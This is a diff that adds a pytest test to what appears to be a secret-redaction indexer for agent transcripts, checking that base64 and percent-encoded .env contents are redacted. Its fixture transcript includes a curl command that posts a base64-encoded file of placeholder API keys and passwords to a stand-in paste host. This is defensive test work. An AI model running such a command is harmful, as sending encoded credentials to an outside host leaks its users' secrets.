@@ -112,3 +112,26 @@ def test_a_dot_env_in_base64_wrapped_with_crlf_or_indented_reaches_no_index_file
     assert not leaked
     shown = deja("show", "5e1d0c52-0000-4000-8000-00000000c0de").out
     assert shown.count("[redacted:encoded-secret]") == 2 and not [b for b in blobs if b in shown]
+
+
+def test_a_dot_env_in_base64_after_a_url_path_or_percent_encoded_reaches_no_output(home):
+    """Base64 at the end of a URL's path (`/hook/T1BF…`: the path's letters and slashes are base64
+    characters, so the run began at the path and decoded misaligned), and base64 sent in a form body
+    or a query string (its `+`, `/` and `=` percent-encoded: read only once decoded)."""
+    import base64
+    from urllib.parse import quote
+
+    from conftest import Transcript
+
+    openai = "sk-proj-" + "Ab3De5Gh7Jk9Mn1Pq3St5Vw7Yz9Bc2Df4Gh6Jk8Mn0Pq2St4Vw6Yz8Bc1Df3Gh5Jk7Mn9P"
+    env = f">>>OPENAI_API_KEY={openai}\nDB_PASSWORD=Tr0ub4dor-and-3-horses\n"
+    blob = base64.b64encode(env.encode()).decode()
+    assert "+" in blob and "%2B" in quote(blob, safe="")
+    (Transcript("5e1d0c52-0000-4000-8000-00000000f00d", "/w/okapi", 3)
+     .user("post the okapi config").bash("curl -s https://paste.example/raw/" + blob, "ok")
+     .bash("cat body.txt", "payload " + quote(blob, safe="") + " sent")
+     .say("the okapi config is posted").write(home))
+    deja("index")
+    shown = deja("show", "5e1d0c52-0000-4000-8000-00000000f00d").out
+    assert shown.count("[redacted:encoded-secret]") == 2, shown
+    assert blob[:40] not in shown and quote(blob, safe="")[:40] not in shown
